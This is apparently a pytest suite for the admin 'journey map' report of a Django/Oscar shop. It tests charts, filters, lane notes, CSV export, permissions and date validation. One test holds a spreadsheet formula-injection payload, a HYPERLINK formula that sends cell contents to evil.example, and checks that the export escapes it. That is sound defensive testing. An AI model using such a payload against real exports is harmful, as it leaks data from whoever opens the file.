"""The journey map page: charts, filters, lanes, candidate brakes, CSV and print, and who may see it."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_model
from oscar.test.factories import create_order, create_product

from journey.core import events
from journey.core.events import Kind
from journey.core.models import JourneyEvent
from journey.core.reporting import store_time_zone
from journey.insights.models import Lane, LaneNote, Persona
from journey.test.factories import basket_with

pytestmark = pytest.mark.django_db
MAP_URL = reverse("admin:journey_journeymap_changelist")
Category = get_model("catalogue", "Category")
ProductCategory = get_model("catalogue", "ProductCategory")


@pytest.fixture
def catalogue():
    dairy = Category.add_root(name="Dairy")
    bakery = Category.add_root(name="Bakery")
    cheese = create_product(title="Manchego", price=Decimal("12.00"), num_in_stock=10, upc="CHEESE-1")
    bread = create_product(title="Sourdough", price=Decimal("3.00"), num_in_stock=10)
    ProductCategory.objects.create(product=cheese, category=dairy)
    ProductCategory.objects.create(product=bread, category=bakery)
    return {"dairy": dairy, "bakery": bakery, "cheese": cheese, "bread": bread}


@pytest.fixture
def traffic(catalogue):
    """Today: 10 visits land; 8 view the cheese, 1 adds it, 1 checks out and orders; one bread order too."""
    now = timezone.now()
    rows = []
    for i in range(10):
        rows.append(events.build(Kind.CAMPAIGN_LANDING, visitor_id=f"v{i}", at=now - timedelta(minutes=50),
                                 source="google", medium="organic", device="mobile"))
        if i < 8:
            rows.append(events.build(Kind.PRODUCT_VIEW, visitor_id=f"v{i}", at=now - timedelta(minutes=40),
                                     product_id=catalogue["cheese"].pk))
    order = create_order(basket=basket_with([catalogue["cheese"]]))
    rows += [
        events.build(Kind.BASKET_ADD, visitor_id="v0", at=now - timedelta(minutes=30),
                     product_id=catalogue["cheese"].pk),
        events.build(Kind.CHECKOUT_START, visitor_id="v0", at=now - timedelta(minutes=20)),
        events.build(Kind.ORDER_PLACED, visitor_id="v0", at=now - timedelta(minutes=10), order_id=order.pk),
    ]
    JourneyEvent.objects.bulk_create(rows)
    create_order(basket=basket_with([catalogue["bread"]]))
    return order


def test_the_map_shows_charts_not_only_tables(client, staff_user, traffic):
    client.force_login(staff_user)
    response = client.get(MAP_URL, {"period": "7"})
    html = response.content.decode()
    assert response.status_code == 200
    assert 'id="jm-funnel-svg"' in html and 'id="jm-series-svg"' in html
    assert html.count('class="jm-spark"') >= 5  # four phases + the tools
    journey_map = response.context["journey_map"]
    assert [s.visits for s in journey_map.funnel.steps] == [10, 8, 1, 1, 1, 0]
    assert [c.step.visits for c in journey_map.columns] == [10, 8, 1, 0]  # attract, view, order, repeat
    assert sum(journey_map.series["orders"]) == 2
    assert {str(m.label): m.value for m in journey_map.headline}["Visits"] == 10


def test_a_big_drop_off_is_flagged_as_a_candidate_brake(client, staff_user, traffic, settings):
    settings.JOURNEY = {**settings.JOURNEY, "FUNNEL_BRAKE_DROP_OFF": 80}
    client.force_login(staff_user)
    response = client.get(MAP_URL, {"period": "7"})
    candidates = response.context["journey_map"].candidates
    assert [c.step.step.key for c in candidates] == ["basket", "repeat"]  # 8 -> 1 is 87.5 %, 1 -> 0 is 100 %
    html = response.content.decode()
    assert 'data-candidate="basket"' in html and "87.5 % of the visits" in html
    assert "jm-bar-brake" in html
    # The "keep" link opens the note form prefilled as a brake of the Sell phase.
    keep = candidates[0].keep_url
    assert keep.startswith(reverse("admin:journey_lanenote_add")) and "lane=brakes" in keep and "phase=sell" in keep


def test_filter_by_category_and_product(client, staff_user, traffic, catalogue):
    client.force_login(staff_user)
    dairy = client.get(MAP_URL, {"period": "7", "category": catalogue["dairy"].pk}).context["journey_map"]
    assert dairy.category == catalogue["dairy"]
    assert [s.visits for s in dairy.funnel.steps][:3] == [8, 8, 1]
    assert sum(dairy.series["orders"]) == 1  # the bread order is not in Dairy
    assert dairy.series["revenue"][-1] == Decimal("12.00")
    bakery = client.get(MAP_URL, {"period": "7", "category": catalogue["bakery"].pk}).context["journey_map"]
    assert bakery.funnel.visits == 0 and sum(bakery.series["orders"]) == 1
    by_upc = client.get(MAP_URL, {"period": "7", "product": "CHEESE-1"})
    assert by_upc.context["journey_map"].product == catalogue["cheese"]
    assert "Product: Manchego" in by_upc.content.decode()


def test_bad_filters_are_form_errors_not_server_errors(client, staff_user, catalogue):
    client.force_login(staff_user)
    for params, message in (
        ({"product": "no-such-thing"}, "No product with the id or UPC"),
        ({"start": "2025-03-10", "end": "2025-03-01"}, "ends before it starts"),
        ({"category": "999999"}, "Select a valid choice"),
        ({"category": catalogue["dairy"].pk, "product": catalogue["cheese"].pk}, "not both"),
        ({"start": "yesterday", "end": "2025-03-01"}, "Enter a valid date"),
    ):
        response = client.get(MAP_URL, params)
        assert response.status_code == 200
        assert message in response.content.decode()
        assert response.context["journey_map"].category is None


def test_a_custom_period_and_a_breakdown(client, staff_user, traffic):
    client.force_login(staff_user)
    today = timezone.now().astimezone(store_time_zone()).date()
    response = client.get(MAP_URL, {"start": (today - timedelta(days=2)).isoformat(), "end": today.isoformat(),
                                    "by": "source", "model": "first_touch"})
    journey_map = response.context["journey_map"]
    assert journey_map.period == "custom" and len(journey_map.series["days"]) == 3
    assert [(row.value, row.visits) for row in journey_map.funnel.breakdown] == [("google", 10)]
    assert journey_map.attribution.model == "first_touch"
    assert 'id="jm-breakdown"' in response.content.decode()


def test_lanes_show_the_notes_and_persona_of_the_scope(client, staff_user, catalogue):
    LaneNote.objects.create(phase="convince", lane=Lane.THINKS, text="Is this cheese really from La Mancha?",
                            category=catalogue["dairy"])
    LaneNote.objects.create(phase="sell", lane=Lane.BRAKES, text="Shipping costs shown late")
    Persona.objects.create(name="Lucía", summary="Cooks for friends on Saturdays.", category=catalogue["dairy"])
    client.force_login(staff_user)
    shop = client.get(MAP_URL).content.decode()
    assert "Shipping costs shown late" in shop and "La Mancha" not in shop and "Lucía" not in shop
    dairy = client.get(MAP_URL, {"category": catalogue["dairy"].pk}).content.decode()
    assert "La Mancha" in dairy and "Lucía" in dairy and "Shipping costs shown late" not in dairy
    assert 'data-lane-cell="thinks-convince"' in dairy


def test_lanes_are_editable_in_admin(client, catalogue, django_user_model):
    owner = django_user_model.objects.create_superuser("boss", "boss@example.com", "pw")
    client.force_login(owner)
    add = reverse("admin:journey_lanenote_add")
    form = client.get(add, {"phase": "sell", "lane": "brakes", "category": catalogue["dairy"].pk})
    assert form.status_code == 200
    assert form.context["adminform"].form.initial["lane"] == "brakes"
    response = client.post(add, {"phase": "sell", "lane": "brakes", "text": "No cold-chain delivery option",
                                 "category": catalogue["dairy"].pk, "product": "", "position": 0})
    assert response.status_code == 302
    assert response["Location"] == f"{MAP_URL}?category={catalogue['dairy'].pk}"
    note = LaneNote.objects.get()
    assert (note.phase, note.lane, note.category) == ("sell", "brakes", catalogue["dairy"])
    page = client.get(response["Location"]).content.decode()
    assert "No cold-chain delivery option" in page
    # A note for a category and a product at once is refused with a message.
    bad = client.post(add, {"phase": "sell", "lane": "brakes", "text": "x", "category": catalogue["dairy"].pk,
                            "product": catalogue["cheese"].pk, "position": 0})
    assert bad.status_code == 200 and "not both" in bad.content.decode()
    change = client.post(reverse("admin:journey_lanenote_change", args=[note.pk]),
                         {"phase": "sell", "lane": "insights", "text": "Offer cold-chain delivery",
                          "category": catalogue["dairy"].pk, "product": "", "position": 1})
    assert change.status_code == 302
    assert LaneNote.objects.get().lane == "insights"


def test_the_csv_export_has_the_numbers_of_the_map(client, staff_user, traffic):
    client.force_login(staff_user)
    response = client.get(MAP_URL, {"period": "7", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["section", "phase", "item", "measure", "value"]
    funnel = {(r[2], r[3]): r[4] for r in rows if r[0] == "Funnel"}
    assert funnel[("Landed from a campaign or search", "visits")] == "10"
    assert funnel[("Viewed a product", "visits")] == "8"
    assert funnel[("Viewed a product", "conversion from the previous step (%)")] == "80.0"
    headline = {r[3]: r[4] for r in rows if r[0] == "Headline"}
    assert headline["Orders"] == "2"
    assert any(r[0] == "Attribution (Last touch)" and r[2] == "Without a journey tool" and r[3] == "orders"
               and r[4] == "2" for r in rows)
    assert any(r[0] == "Day by day" and r[3] == "orders" for r in rows)


def test_the_csv_export_escapes_shopper_controlled_utm_values_that_a_spreadsheet_would_run(client, staff_user):
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    now = timezone.now()
    JourneyEvent.objects.bulk_create([
        events.build(Kind.CAMPAIGN_LANDING, visitor_id="v1", at=now - timedelta(minutes=5), source=evil,
                     medium="-cpc", device="mobile"),
        events.build(Kind.CAMPAIGN_LANDING, visitor_id="v2", at=now - timedelta(minutes=5), source="google",
                     medium="cpc", device="mobile")])
    client.force_login(staff_user)
    response = client.get(MAP_URL, {"period": "7", "format": "csv", "by": "source"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    items = {r[2] for r in rows if r[0].startswith("Funnel by")}
    assert "'" + evil in items and "google" in items and evil not in items
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert all(cell.lstrip("-").replace(".", "").isdigit() for row in rows[2:] for cell in row[4:] if cell)


def test_the_printable_page(client, staff_user):
    client.force_login(staff_user)
    html = client.get(MAP_URL, {"print": "1"}).content.decode()
    assert "jm-print" in html and "@media print" in html and "window.print()" in html
    assert "window.print()" not in client.get(MAP_URL).content.decode()


def test_the_map_renders_for_staff_with_the_view_permission(client, staff_user):
    client.force_login(staff_user)
    assert client.get(MAP_URL).status_code == 200
    # Viewing the map does not grant editing the lanes: no add links.
    assert "+ Add" not in client.get(MAP_URL).content.decode()
    staff_user.user_permissions.add(Permission.objects.get(codename="add_lanenote"))
    staff_user = type(staff_user).objects.get(pk=staff_user.pk)
    client.force_login(staff_user)
    assert "+ Add" in client.get(MAP_URL).content.decode()


def test_the_map_and_its_csv_are_forbidden_to_staff_without_the_permission(client, django_user_model):
    clerk = django_user_model.objects.create_user("clerk", "clerk@example.com", "pw", is_staff=True)
    client.force_login(clerk)
    assert client.get(MAP_URL).status_code == 403
    assert client.get(MAP_URL, {"format": "csv"}).status_code == 403


def test_customers_are_sent_to_the_admin_login(client, django_user_model):
    customer = django_user_model.objects.create_user("shopper", "shopper@example.com", "pw")
    client.force_login(customer)
    for params in ({}, {"format": "csv"}):
        response = client.get(MAP_URL, params)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


@pytest.mark.parametrize("params", [
    {"start": "0001-01-01", "end": "0001-01-02"},
    {"start": "9999-12-30", "end": "9999-12-31"},
    {"start": "0001-01-01", "end": "2025-03-01"},
    {"start": "2025-03-01", "end": "9999-12-30"},
    {"start": "1999-12-31", "end": "2000-01-02"},
])
def test_dates_out_of_range_are_a_clear_message_not_a_server_error(client, staff_user, params):
    client.force_login(staff_user)
    response = client.get(MAP_URL, params)
    assert response.status_code == 200
    assert "Choose dates between 2000-01-01 and 2100-12-31." in response.content.decode()
    assert response.context["journey_map"].period == "30"  # the default map is shown
    csv_response = client.get(MAP_URL, {**params, "format": "csv"})
    assert csv_response.status_code == 400
    assert "Choose dates between 2000-01-01 and 2100-12-31." in csv_response.content.decode()


@pytest.mark.parametrize(("params", "message"), [
    ({"start": "2025-03-10", "end": "2025-03-01"}, "The period ends before it starts."),
    ({"start": "nonsense", "end": "2025-03-01"}, "Enter a valid date."),
    ({"start": "2025-02-30", "end": "2025-03-01"}, "Enter a valid date."),
])
def test_a_csv_of_a_bad_period_is_a_400_with_the_message(client, staff_user, params, message):
    client.force_login(staff_user)
    response = client.get(MAP_URL, {**params, "format": "csv"})
    assert response.status_code == 400
    assert message in response.content.decode()


def test_the_first_and_last_accepted_days_work(client, staff_user):
    client.force_login(staff_user)
    for params in ({"start": "2000-01-01", "end": "2000-01-31"}, {"start": "2100-12-01", "end": "2100-12-31"}):
        assert client.get(MAP_URL, params).context["journey_map"].period == "custom"
        assert client.get(MAP_URL, {**params, "format": "csv"}).status_code == 200


@pytest.mark.parametrize("params", [
    {"start": "0001-01-01", "end": "0001-01-02"},
    {"start": "9999-12-30", "end": "9999-12-31"},
    {"start": "0001-01-01", "end": "9999-12-30"},
    {"start": "2025-03-10", "end": "2025-03-01"},
    {"start": "nonsense", "end": "2025-03-01"},
])
def test_the_recovery_and_retain_reports_answer_bad_periods_with_a_message(admin_client, params):
    for url in (reverse("admin:journey_basketactivity_report"),
                reverse("admin:journey_retain_report") + "?program=winback"):
        response = admin_client.get(url, params)
        assert response.status_code == 200
        messages = [str(m) for m in response.context["messages"]]
        assert messages, (url, params)


@pytest.mark.parametrize(("language", "revenue", "orders"), [
    ("en", "355,198.78", "1,234"),
    ("es", "355.198,78", "1.234"),
])
def test_money_and_counts_have_thousands_separators_in_the_language_of_the_page(
        client, staff_user, catalogue, language, revenue, orders):
    order = create_order(basket=basket_with([catalogue["cheese"]]))
    type(order).objects.filter(pk=order.pk).update(total_incl_tax=Decimal("355198.78"))
    JourneyEvent.objects.bulk_create([
        events.build(Kind.CAMPAIGN_LANDING, visitor_id=f"v{i}", at=timezone.now() - timedelta(minutes=5),
                     source="google") for i in range(1234)])
    client.force_login(staff_user)
    html = client.get(MAP_URL, {"period": "7"}, HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert f"{revenue} USD" in html  # headline, the series chart's title and the attribution table
    assert f"<strong>{orders}</strong>" in html  # the visits of the Attract column
    assert "355198.78" not in html


def test_the_numbers_filters_format_per_language():
    from django.utils import translation

    from journey.templatetags.journey_numbers import count, money

    with translation.override("en"):
        assert money(Decimal("355198.78"), "USD") == "355,198.78 USD"
        assert count(1234567) == "1,234,567"
    with translation.override("es"):
        assert money(Decimal("355198.78"), "EUR") == "355.198,78 EUR"
        assert count(1234567) == "1.234.567"
    assert money(None) == "—"
    assert count("n/a") == "n/a"


def test_the_orders_chart_spans_the_data_not_the_whole_period(client, staff_user, catalogue):
    """period=all with orders only in 2017: the x-axis runs over 2017, not from 2017 to today."""
    from datetime import date, datetime

    tz = store_time_zone()
    for day in (date(2017, 3, 1), date(2017, 6, 30)):
        order = create_order(basket=basket_with([catalogue["cheese"]]))
        type(order).objects.filter(pk=order.pk).update(date_placed=datetime(day.year, day.month, day.day, 12,
                                                                             tzinfo=tz))
    client.force_login(staff_user)
    journey_map = client.get(MAP_URL, {"period": "all"}).context["journey_map"]
    chart = journey_map.series_chart
    assert chart.columns[0].first == date(2017, 3, 1)
    assert chart.columns[-1].last == date(2017, 6, 30)
    assert all(label.startswith("2017-") for _x, label in chart.ticks)
    assert sum(journey_map.series["orders"]) == 2  # the numbers still cover the whole period
    assert journey_map.last_day == timezone.now().astimezone(tz).date()


def test_an_empty_period_keeps_its_whole_axis(client, staff_user):
    client.force_login(staff_user)
    journey_map = client.get(MAP_URL, {"period": "7"}).context["journey_map"]
    assert journey_map.series_chart.empty
    assert journey_map.series_chart.columns[0].first == journey_map.first_day
    assert journey_map.series_chart.columns[-1].last == journey_map.last_day


def test_orders_without_any_journey_touch_read_sensibly(client, staff_user, catalogue):
    create_order(basket=basket_with([catalogue["cheese"]]))
    client.force_login(staff_user)
    html = client.get(MAP_URL, {"period": "7"}).content.decode()
    assert '<th scope="row">Without a journey tool</th>' in html
    assert "No order of this period followed a touch of a journey tool" in html


def test_the_no_touch_note_is_absent_when_a_tool_brought_orders(client, staff_user, traffic):
    JourneyEvent.objects.filter(kind=Kind.CAMPAIGN_LANDING, visitor_id="v0").update(tool="campaigns", ref="1")
    client.force_login(staff_user)
    html = client.get(MAP_URL, {"period": "7"}).content.decode()
    assert "No order of this period followed a touch of a journey tool" not in html
